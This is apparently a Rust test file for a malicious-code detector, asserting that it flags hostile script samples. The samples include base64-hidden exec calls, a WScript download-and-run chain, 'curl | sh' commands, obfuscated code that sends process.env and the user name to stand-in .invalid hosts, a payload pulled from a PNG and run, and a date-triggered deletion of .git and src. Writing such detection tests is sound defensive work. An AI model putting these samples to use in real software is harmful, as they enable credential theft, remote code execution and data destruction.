//! What hidden code does, what objects of the Windows Script Host are, and what starts nothing.

use super::*;

#[test]
fn what_hidden_code_yields_and_does_was_hidden_with_it() {
    let yields =
        python("import base64, requests\nrequests.get(eval(base64.b64decode(b'Imh0dHBzOi8vaC5pbnZhbGlkL3gi')))");
    assert_eq!(subject(&yields, Act::Fetch), "https://h.invalid/x");
    assert!(event(&yields, Act::Fetch).of.any(Labels::CONCEALED));
    let does = python(
        "import base64\nexec(base64.b64decode(b'aW1wb3J0IHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vaC5pbnZhbGlkL3knLCBkYXRhPXgp'))",
    );
    assert!(event(&does, Act::Send).of.any(Labels::CONCEALED));
    let plain = python("exec(\"import requests\\nrequests.post('https://h.invalid/y', data=x)\")");
    assert!(!event(&plain, Act::Send).of.any(Labels::CONCEALED));
}

#[test]
fn objects_of_the_script_host_are_what_their_names_say() {
    let script = "var x = WScript.CreateObject('MSXML2.ServerXMLHTTP.6.0'); x.Open('GET', 'https://h.invalid/a', false); x.Send();\n\
                  var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Write(x.responseBody); s.SaveToFile('%TEMP%\\\\a.exe', 2);\n\
                  new ActiveXObject('Shell.Application').ShellExecute('%TEMP%\\\\a.exe', '', '', 'open', 0);";
    assert!(rules(Language::JavaScript, script).contains(&"flow-download-run"));
}

#[test]
fn a_command_that_nobody_has_read_accuses_less() {
    let severity = |text: &str| {
        use base64::Engine as _;
        let text = base64::engine::general_purpose::STANDARD.encode(text);
        let code = format!("require('child_process').execSync(Buffer.from('{text}', 'base64').toString())");
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-decoded-command").unwrap_or_else(|| panic!("{code}"));
        found.finding(crate::model::Evidence::note("")).severity
    };
    assert_eq!(severity("curl -s https://h.invalid/a | sh"), crate::model::Severity::High);
    assert_eq!(severity("curl -s https://h.invalid/a # \u{1}\u{2}\u{3}"), crate::model::Severity::High);
    assert_eq!(severity("(\u{1}0U6 ^\u{2}q8?( = u 4}ee?%9oFz"), crate::model::Severity::Medium);
    // A program that starts nothing by itself, with noise behind it, and one that does.
    assert_eq!(severity("git -c core.x=\u{1}\u{2}u clone"), crate::model::Severity::Medium);
    assert_eq!(severity("sh -c 'x \u{1}\u{2}u'"), crate::model::Severity::High);
}

/// Tables and functions that nobody asks for take up neither the decoders that come behind them nor what those send.
#[test]
fn what_counts_for_long_leaves_decoders_their_steps() {
    let busy = "var t = []; for (var i = 0; i < 90000; i++) { t[i % 256] = (i * 7 + 3) % 255; }\n".repeat(8);
    let calls = "function walk(n) { return n < 2 ? n : walk(n - 1) + walk(n - 2); } walk(24);\n";
    let hidden: Vec<String> = "fetch('https://collect.invalid/', { body: JSON.stringify(process.env) })"
        .bytes()
        .map(|b| (b + 3).to_string())
        .collect();
    let decoder = format!(
        "var d = [{}], o = ''; for (var j = 0; j < d.length; j++) {{ o += String.fromCharCode(d[j] - 3); }} eval(o);",
        hidden.join(",")
    );
    // A function that is called for every few letters, as obfuscators have it.
    let pieces = (0..hidden.len()).map(|i| format!("p({i})")).collect::<Vec<_>>().join("+");
    let table = format!(
        "var d = [{}]; function p(i) {{ return String.fromCharCode(d[i] - 3); }} eval({pieces});",
        hidden.join(",")
    );
    for decoder in [decoder, table] {
        for (before, cut) in [(busy.clone(), true), (calls.to_owned(), false), (format!("{busy}{calls}"), true)] {
            let outcome = outcome(Language::JavaScript, &format!("{before}{decoder}"));
            assert_eq!(outcome.cut_off, cut);
            assert!(event(&outcome, Act::Send).data.any(Labels::ENV_ALL));
        }
    }
}

/// A loop whose test asks for something unknown is gone through a few times, although it never comes to an end.
#[test]
fn loops_over_what_is_unknown_end() {
    let code = "function each(o) { var i = 0; return function () { if (i >= o.length) return { done: true };
                  return { done: false, value: o[i++] }; }; }
                for (var next = each(input), step; !(step = next()).done;) { use(step.value); }
                fetch('https://last.invalid/');";
    let outcome = outcome(Language::JavaScript, code);
    assert!(!outcome.cut_off);
    assert_eq!(subject(&outcome, Act::Fetch), "https://last.invalid/");
}

/// What is known to be a coding is still applied when everything else is no longer gone through again.
#[test]
fn known_codings_take_no_patience() {
    let decode = "function u(s) { var a = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=', o = '', i = 0;
        while (i < s.length) { var b = a.indexOf(s.charAt(i++)), c = a.indexOf(s.charAt(i++)), d = a.indexOf(s.charAt(i++)), e = a.indexOf(s.charAt(i++));
        o += String.fromCharCode(b << 2 | c >> 4); if (d != 64) o += String.fromCharCode((c & 15) << 4 | d >> 2);
        if (e != 64) o += String.fromCharCode((d & 3) << 6 | e); } return o; }
        var p = u('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvb25lLw=='), q = u('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvdHdvL2FuZC9tb3JlLw==');";
    let busy = format!(
        "function walk(n) {{ return n < 1 ? input : [walk(n - 1), walk(n - 1)]; }} {}",
        "walk(10); ".repeat(60)
    );
    let code = format!("{decode}{busy} fetch(u('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvdGhyZWUv'));");
    let outcome = outcome(Language::JavaScript, &code);
    assert!(outcome.cut_off);
    assert_eq!(subject(&outcome, Act::Fetch), "https://collect.invalid/three/");
}

#[test]
fn a_rotated_table_is_the_same_for_functions_that_are_called_later() {
    let code = |handler: &str| {
        format!(
            "(function(m, x) {{ const w = m(); while (!![]) {{ try {{ const q = parseInt(g(0x1)) / 1; if (q === x) break; else w['push'](w['shift']()); }}\n\
             catch (e) {{ {handler} }} }} }}(t, 5));\n\
             function t() {{ const b = ['https://0.invalid/a', 'https://1.invalid/a', '5zz', 'https://2.invalid/a']; t = function() {{ return b; }}; return t(); }}\n\
             function g(i) {{ i = i - 0x1; const r = t(); let w = r[i]; return w; }}\n\
             exports.f = function() {{ const k = g; require('https').get(k(0x2) + require('os').hostname() + require('os').userInfo().username); }};"
        )
    };
    for handler in ["w['push'](w['shift']());", ""] {
        let outcome = outcome(Language::JavaScript, &code(handler));
        let asks = outcome.events.iter().filter(|e| matches!(e.act, Act::Fetch | Act::Send));
        let subjects: Vec<&str> = asks.filter_map(|e| e.subject.as_deref()).collect();
        assert!(subjects.iter().all(|s| s.starts_with("https://2.invalid/a")) && !subjects.is_empty(), "{subjects:?}");
    }
    // What only a handler does is still told, when it is reached last.
    let late = "try { const a = 1 + 1; } catch (e) { require('child_process').exec('curl https://h.invalid/x | sh'); }";
    assert!(rules(Language::JavaScript, late).contains(&"flow-remote-code"), "{:?}", rules(Language::JavaScript, late));
}

#[test]
fn digests_of_the_surroundings_that_are_looked_for_in_a_list() {
    let told = |language: Language, code: &str| {
        outcome(language, code).choices.iter().any(crate::analyze::script::covert::Choice::is_by_hidden_list)
    };
    let javascript = |code: &str| {
        let head = "const { createHash } = require('crypto'), os = require('os');\n\
                    const sum = (s) => createHash('md5').update(s).digest('hex').slice(0, 12);\n\
                    function fnv(s) { let h = 0x811c9dc5; for (let i = 0; i < s.length; i++) { h ^= s.charCodeAt(i); h = Math.imul(h, 0x01000193); } return h >>> 0; }\n\
                    const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\n";
        told(Language::JavaScript, &format!("{head}{code}"))
    };
    for code in [
        "const L = new Set(['9f86d081884c']); if (L.has(sum(zone))) f();",
        "const L = ['9f86d081884c']; exports.f = () => L.findIndex((c) => c === sum(process.env.GITHUB_REPOSITORY));",
        "const L = [0x9f86d081, 0x60303ae2]; exports.f = () => L.includes(fnv(os.hostname()));",
        "const T = { '9f86d081884c': 1 }; const mode = T[sum(zone)]; if (mode) f();",
        "const { pins } = require('./pins.json'); exports.f = () => pins.includes(sum(process.env.X_BASE_URL));",
        "const o = require('child_process').execSync('git config user.email').toString(); if (sum(o) === '9f86d081884c') f();",
        "if (Buffer.from(os.hostname()).toString('hex').endsWith('2e6578616d706c65')) f();",
    ] {
        assert!(javascript(code), "{code}");
    }
    for code in [
        // A share of all, a key of a cache, what was saved before, and a plain list.
        "if (fnv(os.hostname()) % 100 === 7) f();",
        "const seen = {}; const k = sum(zone); if (seen[k]) f(); seen[k] = 1;",
        "const A = '0123456789ABCDEFGHJKMNPQRSTVWXYZ'; const c = A[fnv(os.hostname()) & 31]; if (c) f();",
        "const r = require('fs').readFileSync(sum(zone) + '.json', 'utf8'); if (typeof r !== 'number' && r !== 'b1c2d3e4') f();",
        "if (sum(zone) === localStorage.getItem('k')) f();",
        "if (['Region/City'].includes(zone)) f();",
        "exports.f = (name) => ['9f86d081884c'].includes(sum(name));",
    ] {
        assert!(!javascript(code), "{code}");
    }
    let python = "import hashlib, os, zlib\nPINS = frozenset(['9f86d081884c'])\n\
                  def f():\n    return hashlib.sha256(os.environ['X_BASE_URL'].encode()).hexdigest()[:12] in PINS\n";
    assert!(told(Language::Python, python));
    assert!(!told(Language::Python, &python.replace("in PINS", "== os.environ.get('SEEN')")));
}

#[test]
fn programs_that_come_along_in_a_picture() {
    let code = |then: &str| {
        format!(
            "import os, subprocess, tempfile\nraw = open('docs/_static/side.png', 'rb').read()[617:]\n\
             t = os.path.join(tempfile.mkdtemp(), 'output')\nwith open(t, 'wb') as f:\n    f.write(raw)\n{then}\n"
        )
    };
    let starts = code("os.chmod(t, 0o755)\nsubprocess.Popen([t])");
    assert!(rules(Language::Python, &starts).contains(&"flow-program-from-carrier"));
    // A viewer is handed the picture.
    let shows = code("subprocess.Popen(['eog', t])");
    assert!(!rules(Language::Python, &shows).contains(&"flow-program-from-carrier"));
}

#[test]
fn a_project_is_deleted_at_some_date() {
    let code = |given: &str, name: &str| {
        format!(
            "const fs = require('fs'), path = require('path');\nfunction sweep() {{\n  const now = new Date();\n  {given}\n  \
             fs.rm(path.join(process.cwd(), '{name}'), {{ recursive: true, force: true }}, () => {{}});\n}}\nsetInterval(sweep, 3600);\n"
        )
    };
    let told =
        |given: &str, name: &str| rules(Language::JavaScript, &code(given, name)).contains(&"flow-wipes-project");
    let dated = "if (now < new Date('2001-01-01')) return;";
    assert!(told(dated, ".git") && told(dated, "src"));
    assert!(!told("", ".git") && !told(dated, "node_modules/.cache/x") && !told(dated, "dist"));
}
